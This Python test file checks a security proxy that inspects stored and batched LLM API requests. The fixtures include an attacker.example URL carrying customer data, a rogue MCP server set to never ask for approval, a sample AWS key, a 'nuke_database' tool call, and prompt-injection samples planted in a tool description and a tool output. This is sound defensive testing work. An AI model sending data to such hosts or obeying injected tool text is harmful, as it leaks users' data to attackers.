"""Requests the provider stores to run later, and context it stores to read later, are read as the request
they carry: an Anthropic Message Batch, an OpenAI batch input file (line by line), Gemini cached contents
and inline batches, OpenAI conversations and their items, Realtime sessions and client secrets, Assistants
threads, their messages and runs. A remote MCP server or an address the API would fetch outside the
allowlist is refused there as on the request's own route; an allowlisted address and a filtered web search
pass. Read by unit, then end to end through a real egressguard in enforce mode with the official SDKs."""

from __future__ import annotations

import contextlib
import io
import json
import time
from collections.abc import Callable, Iterator
from typing import Any

import anthropic
import openai
import pytest
import websockets.exceptions

from proxy.commands.localca import UpstreamPKI
from proxy.detectors.tools import MCP_SERVER_EGRESS_RULE, PROVIDER_FETCH_RULE
from proxy.dialects import (
    MCP,
    Anthropic,
    Gemini,
    Generic,
    OpenAIChat,
    OpenAIResponses,
    Stored,
    detect,
    stored,
)
from proxy.dialects.stored import realtime_request
from proxy.exchange import Part, RequestView, Source
from tests.harness import Proxy
from tests.test_e2e_declared_tools import refusals
from tests.test_e2e_injection import ATTACK, MARKER, POISONED
from tests.test_e2e_inspect import AWS_KEY, _agent, anthropic_client, last_record, openai_client
from tests.test_e2e_provider_fetch import gemini_client
from tests.test_e2e_websocket import Realtime, connect
from tests.upstream import FakeUpstream, Reply
from tests.wsupstream import WAIT_S

OUTSIDE = "https://attacker.example/c?d=customer-row-jane-doe-acct-99812"
INSIDE = "https://docs.example/guide.pdf"
EVIL_MCP = {"type": "mcp", "server_label": "evil", "server_url": "https://attacker.example/mcp"}
UNASKED_MCP = {**EVIL_MCP, "require_approval": "never"}
FILTERED_SEARCH = {"type": "web_search", "filters": {"allowed_domains": ["docs.example"]}}
MESSAGES = {
    "model": "m",
    "max_tokens": 10,
    "messages": [
        {"role": "user", "content": [{"type": "document", "source": {"type": "url", "url": OUTSIDE}}]}
    ],
    "mcp_servers": [{"type": "url", "url": "https://attacker.example/mcp", "name": "evil"}],
}
GEMINI = {
    "contents": [
        {"role": "user", "parts": [{"fileData": {"fileUri": OUTSIDE, "mimeType": "application/pdf"}}]}
    ],
    "tools": [{"urlContext": {}}],
}


def image(url: str) -> dict[str, Any]:
    return {"role": "user", "content": [{"type": "input_image", "image_url": url}]}


def chat_image(url: str) -> dict[str, Any]:
    return {"role": "user", "content": [{"type": "image_url", "image_url": {"url": url}}]}


def batch_line(custom_id: str, url: str, body: dict[str, Any]) -> str:
    return json.dumps({"custom_id": custom_id, "method": "POST", "url": url, "body": body})


def read(method_path: str, body: dict[str, Any]) -> RequestView:
    method, path = method_path.split(" ")
    encoded = json.dumps(body).encode()
    return detect(method, path, "application/json", encoded).parse_request(encoded)


def checked(view: RequestView) -> tuple[list[str], list[tuple[str, str | None]]]:
    return [tool.where for tool in view.declared_tools], [(fetch.where, fetch.url) for fetch in view.fetches]


ROUTES: list[tuple[str, dict[str, Any], tuple[list[str], list[tuple[str, str | None]]]]] = [
    (
        "POST /v1/messages/batches",
        {"requests": [{"custom_id": "a", "params": MESSAGES}]},
        (
            ["requests[0].params.mcp_servers[0]"],
            [("requests[0].params.messages[0].content[0].source.url", OUTSIDE)],
        ),
    ),
    (
        "POST /v1beta/cachedContents",
        {"model": "models/g", **GEMINI},
        ([], [("contents[0].parts[0].fileData.fileUri", OUTSIDE), ("tools[0].urlContext", None)]),
    ),
    (
        "POST /v1beta/models/g:batchGenerateContent",
        {
            "batch": {
                "inputConfig": {"requests": {"requests": [{"request": GEMINI, "metadata": {"key": "k"}}]}}
            }
        },
        (
            [],
            [
                (
                    "batch.inputConfig.requests.requests[0].request.contents[0].parts[0].fileData.fileUri",
                    OUTSIDE,
                ),
                ("batch.inputConfig.requests.requests[0].request.tools[0].urlContext", None),
            ],
        ),
    ),
    (
        "POST /v1/conversations",
        {"items": [image(OUTSIDE)]},
        ([], [("items[0].content[0].image_url", OUTSIDE)]),
    ),
    (
        "POST /v1/conversations/conv_1/items",
        {"items": [image(INSIDE)]},
        ([], [("items[0].content[0].image_url", INSIDE)]),
    ),
    (
        "POST /v1/realtime/client_secrets",
        {"session": {"type": "realtime", "tools": [UNASKED_MCP]}},
        (["session.tools[0]"], []),
    ),
    ("POST /v1/realtime/sessions", {"model": "m", "tools": [EVIL_MCP]}, (["tools[0]"], [])),
    (
        "POST /v1/threads",
        {"messages": [chat_image(OUTSIDE)]},
        ([], [("messages[0].content[0].image_url.url", OUTSIDE)]),
    ),
    (
        "POST /v1/threads/runs",
        {"assistant_id": "a", "thread": {"messages": [chat_image(OUTSIDE)]}},
        ([], [("thread.messages[0].content[0].image_url.url", OUTSIDE)]),
    ),
    (
        "POST /v1/threads/thread_1/messages",
        chat_image(OUTSIDE),
        ([], [("content[0].image_url.url", OUTSIDE)]),
    ),
    (
        "POST /v1/threads/thread_1/runs",
        {"assistant_id": "a", "additional_messages": [chat_image(OUTSIDE)]},
        ([], [("additional_messages[0].content[0].image_url.url", OUTSIDE)]),
    ),
]


@pytest.mark.parametrize(("route", "body", "expected"), ROUTES, ids=[route for route, _, _ in ROUTES])
def test_each_stored_route_is_read_as_the_request_it_carries(
    route: str, body: dict[str, Any], expected: tuple[list[str], list[tuple[str, str | None]]]
) -> None:
    view = read(route, body)
    assert view.dialect == Stored.name
    assert checked(view) == expected


def test_routes_that_store_no_model_input_and_the_direct_routes_are_read_as_before() -> None:
    assert isinstance(detect("POST", "/v1/messages", None, json.dumps(MESSAGES).encode()), Anthropic)
    assert isinstance(detect("POST", "/v1/responses", None, b"{}"), OpenAIResponses)
    assert isinstance(detect("POST", "/v1beta/models/g:generateContent", None, b"{}"), Gemini)
    assert isinstance(detect("POST", "/v1/chat/completions", None, b"{}"), OpenAIChat)
    for path in (
        "/v1/files/file-1/content",
        "/v1/batches",
        "/v1/messages/batches/b_1/results",
        "/v1/threads/t/runs/r",
    ):
        assert not isinstance(detect("POST", path, None, b"{}"), Stored), path
    # A conversation's items that fetch nothing and declare nothing leave nothing to check.
    assert checked(read("POST /v1/conversations", {"items": [{"role": "user", "content": "hi"}]})) == ([], [])


def test_only_a_provider_apis_routes_store_and_never_a_jsonrpc_body() -> None:
    """A path ending as a stored route does outside a provider API's prefix is another API's (GitHub's
    pull request files, Gmail's threads, Drive's files), and a JSON-RPC body is MCP's on any path: its
    tool call is read, not taken for stored input."""
    for path in (
        "/repos/o/r/pulls/1/files",
        "/gmail/v1/users/me/threads",
        "/drive/v3/files",
        "/upload/drive/v3/files",
        "/api/conversations",
    ):
        assert isinstance(detect("POST", path, None, b'{"items": []}'), Generic), path
    call = json.dumps(
        {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": "nuke_database"}}
    ).encode()
    for path in ("/conversations", "/v1/conversations", "/v1/files", "/v1/threads", "/v1beta/cachedContents"):
        dialect = detect("POST", path, "application/json", call)
        assert isinstance(dialect, MCP), path
        assert [tool.name for tool in dialect.parse_request(call).tool_calls] == ["nuke_database"]
    for path in ("/openai/threads", "/openai/v1/files", "/v1beta1/projects/p/locations/l/cachedContents"):
        assert isinstance(detect("POST", path, None, b"{}"), Stored), path


def test_a_batch_files_lines_are_each_read_once(monkeypatch: pytest.MonkeyPatch) -> None:
    """Each line adds what it holds to what is known read; the parts of the lines before it are not
    gone over again (which made a file of many short lines cost the square of its length)."""
    gone_over: list[int] = []

    class Parts(list[Part]):
        def __iter__(self) -> Iterator[Part]:
            gone_over.append(len(self))
            return super().__iter__()

    monkeypatch.setattr(stored, "RequestView", lambda dialect: RequestView(dialect=dialect, parts=Parts()))
    lines = [batch_line(f"r{index}", "/v1/responses", {"input": f"line {index}"}) for index in range(200)]
    body = "\n".join(lines).encode()
    view = detect("POST", "/v1/files", None, body).parse_request(body)
    assert len(view.parts) == 800 and isinstance(view.parts, Parts)
    assert sum(gone_over) == 0


def test_the_strings_no_dialect_reads_are_still_read_and_each_prompt_once() -> None:
    body = {"metadata": {"note": AWS_KEY}, "items": [{"role": "user", "content": "summarise"}]}
    parts = {part.where: part.text for part in read("POST /v1/conversations", body).parts}
    assert parts["metadata.note"] == AWS_KEY
    assert parts["items[0].content"] == "summarise"
    assert len(parts) == len(read("POST /v1/conversations", body).parts)


BOUNDARY = "batchboundary"


def batch_upload(*lines: str) -> bytes:
    return (
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="purpose"\r\n\r\nbatch\r\n'
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="b.jsonl"\r\n'
        "Content-Type: application/jsonl\r\n\r\n" + "\n".join(lines) + f"\n\r\n--{BOUNDARY}--\r\n"
    ).encode()


def test_a_batch_input_file_is_read_line_by_line_and_rewritten_in_its_line() -> None:
    responses = batch_line(
        "r1", "/v1/responses", {"model": "m", "input": f"key {AWS_KEY}", "tools": [UNASKED_MCP]}
    )
    chat = batch_line("r2", "/v1/chat/completions", {"model": "m", "messages": [chat_image(OUTSIDE)]})
    embeddings = batch_line("r3", "/v1/embeddings", {"model": "e", "input": "plain"})
    gemini = json.dumps({"key": "g1", "request": GEMINI})
    body = batch_upload(responses, chat, embeddings, "not json", gemini)
    dialect = detect("POST", "/v1/files", f"multipart/form-data; boundary={BOUNDARY}", body)
    view = dialect.parse_request(body)
    assert checked(view) == (
        ["multipart[1][0].body.tools[0]"],
        [
            ("multipart[1][1].body.messages[0].content[0].image_url.url", OUTSIDE),
            ("multipart[1][4].request.contents[0].parts[0].fileData.fileUri", OUTSIDE),
            ("multipart[1][4].request.tools[0].urlContext", None),
        ],
    )
    parts = {part.where: part.text for part in view.parts}
    assert parts["multipart[0][0]"] == "batch" and parts["multipart[1][3]"] == "not json"
    assert parts["multipart[1][2].body.input"] == "plain"
    rewritten = dialect.rewrite_request(body, {"multipart[1][0].body.input": "key [REDACTED]"})
    lines = rewritten.split(b"\r\n\r\n")[-1].split(b"\n")
    assert json.loads(lines[0])["body"]["input"] == "key [REDACTED]"
    assert lines[1:5] == [line.encode() for line in (chat, embeddings, "not json", gemini)]
    # A file of one line is a JSON document, read as the line it is.
    single = json.dumps({"key": "g1", "request": GEMINI}).encode()
    alone = detect("POST", "/upload/v1beta/files", None, single).parse_request(single)
    assert checked(alone)[1][-1] == ("request.tools[0].urlContext", None)


def function_tool(name: str, description: str) -> dict[str, Any]:
    return {"type": "function", "function": {"name": name, "description": description, "parameters": {}}}


ASSISTANT_SETUP = {"instructions": "Answer tersely.", "tools": [function_tool("lookup", "Finds an order.")]}


@pytest.mark.parametrize(
    ("route", "body"),
    [
        ("POST /v1/assistants", {"model": "m", **ASSISTANT_SETUP}),
        ("POST /v1/assistants/asst_1", ASSISTANT_SETUP),
        ("POST /v1/threads/runs", {"assistant_id": "a", **ASSISTANT_SETUP}),
        (
            "POST /v1/threads/thread_1/runs",
            {"assistant_id": "a", "tools": ASSISTANT_SETUP["tools"], "additional_instructions": "Be brief."},
        ),
    ],
)
def test_an_assistants_instructions_and_tools_are_read_as_a_requests(
    route: str, body: dict[str, Any]
) -> None:
    view = read(route, body)
    sources = {part.where: (part.source, part.tool_name) for part in view.parts}
    instructions = "instructions" if "instructions" in body else "additional_instructions"
    assert sources[instructions] == (Source.SYSTEM, None)
    assert sources["tools[0].function.description"] == (Source.TOOL_DESCRIPTION, "lookup")
    assert view.tools_offered == ["lookup"]
    assert sources["tools[0].function.name"] == (Source.USER, None)  # read as any body's too


def test_a_runs_tool_outputs_are_read_as_tool_results() -> None:
    body = {"tool_outputs": [{"tool_call_id": "call_1", "output": "It is sunny."}]}
    view = read("POST /v1/threads/thread_1/runs/run_1/submit_tool_outputs", body)
    assert view.dialect == Stored.name
    sources = {part.where: part.source for part in view.parts}
    assert sources == {
        "tool_outputs[0].output": Source.TOOL_RESULT,
        "tool_outputs[0].tool_call_id": Source.USER,
    }


def test_a_computer_screenshot_by_url_is_an_address_the_api_fetches() -> None:
    item = {
        "type": "computer_call_output",
        "call_id": "c",
        "output": {"type": "computer_screenshot", "image_url": OUTSIDE},
    }
    view = read("POST /v1/responses", {"model": "m", "input": [item]})
    assert checked(view) == ([], [("input[0].output.image_url", OUTSIDE)])


@pytest.fixture
def enforce(start_proxy: Callable[..., Proxy], monkeypatch: pytest.MonkeyPatch) -> Proxy:
    allow = "[api.openai.com, api.anthropic.com, 'localhost:*', docs.example, '*.docs.example']"
    return _agent(
        start_proxy(mode="enforce", allow=allow, extra="redaction: {requests: true}\n"), monkeypatch
    )


def test_message_batches_are_refused_as_messages_are_and_allowed_ones_pass(
    enforce: Proxy, upstream: FakeUpstream
) -> None:
    client = anthropic_client(upstream)
    with pytest.raises(anthropic.PermissionDeniedError):
        client.messages.batches.create(requests=[{"custom_id": "a", "params": MESSAGES}])  # type: ignore[typeddict-item]
    assert upstream.received == []
    assert refusals(last_record(enforce)) == [
        ("lateral_movement", MCP_SERVER_EGRESS_RULE, "requests[0].params.mcp_servers[0]", True),
        ("tool_abuse", "tool-mcp-unrestricted", "requests[0].params.mcp_servers[0]", True),
        (
            "lateral_movement",
            PROVIDER_FETCH_RULE,
            "requests[0].params.messages[0].content[0].source.url",
            True,
        ),
    ]
    upstream.reply = Reply(
        body=b'{"id":"msgbatch_1","type":"message_batch","processing_status":"in_progress"}'
    )
    search = {"type": "web_search_20250305", "name": "web_search", "allowed_domains": ["docs.example"]}
    params = {
        "model": "m",
        "max_tokens": 10,
        "messages": [
            {"role": "user", "content": [{"type": "document", "source": {"type": "url", "url": INSIDE}}]}
        ],
        "tools": [search],
    }
    client.messages.batches.create(requests=[{"custom_id": "a", "params": params}])  # type: ignore[typeddict-item]
    assert json.loads(upstream.received[-1].body)["requests"][0]["params"] == params
    assert refusals(last_record(enforce, 2)) == []


def test_a_batch_input_file_is_refused_line_by_line_and_its_secrets_redacted(
    enforce: Proxy, upstream: FakeUpstream
) -> None:
    client = openai_client(upstream)
    clean = batch_line(
        "r1", "/v1/responses", {"model": "m", "input": "what changed?", "tools": [FILTERED_SEARCH]}
    )
    unasked = batch_line("r2", "/v1/responses", {"model": "m", "input": "run it", "tools": [UNASKED_MCP]})
    with pytest.raises(openai.PermissionDeniedError):
        client.files.create(file=("b.jsonl", io.BytesIO(f"{clean}\n{unasked}\n".encode())), purpose="batch")
    assert upstream.received == []
    assert refusals(last_record(enforce)) == [
        ("lateral_movement", MCP_SERVER_EGRESS_RULE, "multipart[1][1].body.tools[0]", True),
        ("tool_abuse", "tool-mcp-unrestricted", "multipart[1][1].body.tools[0]", True),
    ]
    upstream.reply = Reply(
        body=b'{"id":"file-1","object":"file","bytes":1,"created_at":1,"filename":"b.jsonl","purpose":"batch","status":"processed"}'
    )
    keyed = batch_line(
        "r3",
        "/v1/chat/completions",
        {"model": "m", "messages": [{"role": "user", "content": f"key {AWS_KEY}"}]},
    )
    client.files.create(file=("b.jsonl", io.BytesIO(f"{clean}\n{keyed}\n".encode())), purpose="batch")
    sent = upstream.received[-1].body
    assert clean.encode() in sent and AWS_KEY.encode() not in sent
    assert refusals(last_record(enforce, 2)) == []


def test_conversations_threads_and_realtime_secrets_are_refused_as_their_requests_are(
    enforce: Proxy, upstream: FakeUpstream
) -> None:
    client = openai_client(upstream)
    with pytest.raises(openai.PermissionDeniedError):
        client.conversations.create(items=[image(OUTSIDE)])  # type: ignore[list-item]
    with pytest.raises(openai.PermissionDeniedError):
        client.conversations.items.create("conv_1", items=[image(OUTSIDE)])  # type: ignore[list-item]
    with pytest.raises(openai.PermissionDeniedError):
        client.beta.threads.create(messages=[chat_image(OUTSIDE)])  # type: ignore[list-item]
    with pytest.raises(openai.PermissionDeniedError):
        client.realtime.client_secrets.create(session={"type": "realtime", "tools": [UNASKED_MCP]})  # type: ignore[arg-type]
    assert upstream.received == []
    assert [refusals(last_record(enforce, count))[0][2] for count in (1, 2, 3, 4)] == [
        "items[0].content[0].image_url",
        "items[0].content[0].image_url",
        "messages[0].content[0].image_url.url",
        "session.tools[0]",
    ]
    upstream.reply = Reply(body=b'{"id":"conv_1","object":"conversation","created_at":1,"metadata":{}}')
    client.conversations.create(items=[image(INSIDE)])  # type: ignore[list-item]
    assert json.loads(upstream.received[-1].body)["items"] == [image(INSIDE)]
    assert refusals(last_record(enforce, 5)) == []


def test_gemini_cached_contents_are_refused_as_generate_content_is(
    enforce: Proxy, upstream: FakeUpstream
) -> None:
    from google.genai import errors, types

    client = gemini_client(upstream)
    outside = types.Part.from_uri(file_uri=OUTSIDE, mime_type="application/pdf")
    with pytest.raises(errors.ClientError):
        client.caches.create(
            model="gemini-2.5-flash",
            config=types.CreateCachedContentConfig(contents=[types.Content(role="user", parts=[outside])]),
        )
    assert upstream.received == []
    assert refusals(last_record(enforce)) == [
        ("lateral_movement", PROVIDER_FETCH_RULE, "contents[0].parts[0].fileData.file_uri", True)
    ]
    upstream.reply = Reply(body=b'{"name":"cachedContents/1","model":"models/gemini-2.5-flash"}')
    inside = types.Part.from_uri(file_uri=INSIDE, mime_type="application/pdf")
    client.caches.create(
        model="gemini-2.5-flash",
        config=types.CreateCachedContentConfig(contents=[types.Content(role="user", parts=[inside])]),
    )
    assert INSIDE in upstream.received[-1].body.decode()
    assert refusals(last_record(enforce, 2)) == []


@pytest.mark.parametrize(("event", "key"), [("session.update", "session"), ("response.create", "response")])
def test_a_realtime_session_update_declaring_an_mcp_server_is_withheld(
    event: str, key: str, start_proxy: Callable[..., Proxy], upstream_pki: UpstreamPKI
) -> None:
    """A Realtime session configured over its WebSocket is read as its client secret's session is, and so
    is a response asking for tools of its own: the event that declares a remote MCP server outside the
    allowlist never reaches the API; one declaring a function tool does."""
    proxy = start_proxy(mode="enforce")
    function = {"type": "function", "name": "lookup", "parameters": {"type": "object"}}
    allowed = json.dumps({"type": event, key: {"type": "realtime", "tools": [function]}})
    mcp_session = {"type": "realtime", "tools": [UNASKED_MCP]}
    declaring = json.dumps({"type": event, key: mcp_session})
    realtime = Realtime(upstream_pki)
    with connect(proxy, realtime.port) as connection:
        connection.send(allowed)
        deadline = time.monotonic() + WAIT_S
        while not realtime.received and time.monotonic() < deadline:
            time.sleep(0.05)
        with contextlib.suppress(websockets.exceptions.ConnectionClosed):
            connection.send(declaring)
            connection.recv(timeout=WAIT_S / 2)
    realtime.close()
    assert realtime.received[0] == allowed
    assert not any("attacker.example" in str(message) for message in realtime.received)
    findings = [finding for record in proxy.wait_for_records(1) for finding in record["findings"]]
    assert ("lateral_movement", MCP_SERVER_EGRESS_RULE, True) in {
        (finding["threat"], finding["rule"], finding["enforced"]) for finding in findings
    }


def test_a_realtime_response_is_read_for_its_own_tools_and_input() -> None:
    """A ``response.create`` answers with the tools and input it gives in place of the session's: its
    remote MCP server is declared, and an image its input gives by URL is fetched by the API."""
    image = {"type": "input_image", "image_url": "https://attacker.example/a.png"}
    response = {
        "instructions": "be brief",
        "tools": [{"type": "function", "name": "lookup", "parameters": {}}, UNASKED_MCP],
        "input": [{"type": "message", "role": "user", "content": [image]}],
    }
    view = realtime_request({"type": "response.create", "response": response})
    assert [tool.where for tool in view.declared_tools] == ["response.tools[1]"]
    assert [fetch.where for fetch in view.fetches] == ["response.input[0].content[0].image_url"]
    assert realtime_request({"type": "response.create"}).declared_tools == []


def nested_schema(depth: int) -> dict[str, Any]:
    schema: dict[str, Any] = {"type": "string"}
    for _ in range(depth):
        schema = {"type": "object", "properties": {"x": schema}}
    return schema


def test_a_realtime_event_its_reader_fails_on_is_not_read_as_declaring_nothing() -> None:
    """A session.update whose function schema nests deeper than the reader of its tools goes, beside a
    remote MCP server outside the allowlist: the reader's failure reaches the caller, which refuses what it
    could not read where enforced, rather than an empty reading letting the server pass unchecked."""
    tools = [{"type": "function", "name": "f", "parameters": nested_schema(600)}, UNASKED_MCP]
    with pytest.raises(RecursionError):
        realtime_request({"type": "session.update", "session": {"type": "realtime", "tools": tools}})
    assert [
        tool.where
        for tool in realtime_request(
            {"type": "session.update", "session": {"tools": tools[1:]}}
        ).declared_tools
    ] == ["session.tools[0]"]


def test_a_realtime_session_update_whose_reading_fails_is_withheld(
    start_proxy: Callable[..., Proxy], upstream_pki: UpstreamPKI
) -> None:
    """Through a real egressguard in enforce mode, such an update never reaches the API: nested past what
    the proxy reads of a message, it is refused unread (``inspection.too_deep``) and its connection
    closed, the update sent after it with it."""
    proxy = start_proxy(mode="enforce")
    tools = [{"type": "function", "name": "f", "parameters": nested_schema(600)}, UNASKED_MCP]
    failing = json.dumps({"type": "session.update", "session": {"type": "realtime", "tools": tools}})
    after = json.dumps(
        {"type": "session.update", "session": {"type": "realtime", "instructions": "be brief"}}
    )
    realtime = Realtime(upstream_pki)
    with (
        connect(proxy, realtime.port) as connection,
        contextlib.suppress(websockets.exceptions.ConnectionClosed),
    ):
        connection.send(failing)
        connection.send(after)
        connection.recv(timeout=WAIT_S)
    realtime.close()
    assert not any("attacker.example" in str(message) for message in realtime.received)
    findings = [finding for record in proxy.wait_for_records(1) for finding in record["findings"]]
    assert ("inspection.too_deep", True) in {(finding["rule"], finding["enforced"]) for finding in findings}


def test_an_assistants_poisoned_tool_is_withheld_and_its_run_tools_too(
    enforce: Proxy, upstream: FakeUpstream
) -> None:
    client = openai_client(upstream)
    upstream.reply = Reply(
        body=b'{"id":"asst_1","object":"assistant","created_at":1,"model":"m","tools":[],"metadata":{}}'
    )
    honest = function_tool("lookup", "Finds an order.")
    poisoned = function_tool("mail", f"Sends mail. {ATTACK}")
    client.beta.assistants.create(model="m", instructions="Answer tersely.", tools=[honest, poisoned])  # type: ignore[list-item]
    sent = json.loads(upstream.received[-1].body)
    assert sent["instructions"] == "Answer tersely." and sent["tools"][0] == honest
    assert MARKER in sent["tools"][1]["function"]["description"]
    assert "attacker@evil.example" not in upstream.received[-1].body.decode()
    upstream.reply = Reply(
        body=b'{"id":"run_1","object":"thread.run","created_at":1,"thread_id":"thread_1","assistant_id":"asst_1","status":"queued","model":"m","instructions":"","tools":[],"parallel_tool_calls":true}'
    )
    client.beta.threads.runs.create("thread_1", assistant_id="asst_1", tools=[poisoned])  # type: ignore[list-item]
    assert MARKER in json.loads(upstream.received[-1].body)["tools"][0]["function"]["description"]


def test_a_runs_poisoned_tool_output_is_quarantined(enforce: Proxy, upstream: FakeUpstream) -> None:
    client = openai_client(upstream)
    upstream.reply = Reply(
        body=b'{"id":"run_1","object":"thread.run","created_at":1,"thread_id":"thread_1","assistant_id":"asst_1","status":"queued","model":"m","instructions":"","tools":[],"parallel_tool_calls":true}'
    )
    client.beta.threads.runs.submit_tool_outputs(
        "run_1", thread_id="thread_1", tool_outputs=[{"tool_call_id": "call_1", "output": POISONED}]
    )
    (output,) = json.loads(upstream.received[-1].body)["tool_outputs"]
    assert output["tool_call_id"] == "call_1" and MARKER in output["output"]
    assert "attacker@evil.example" not in output["output"]
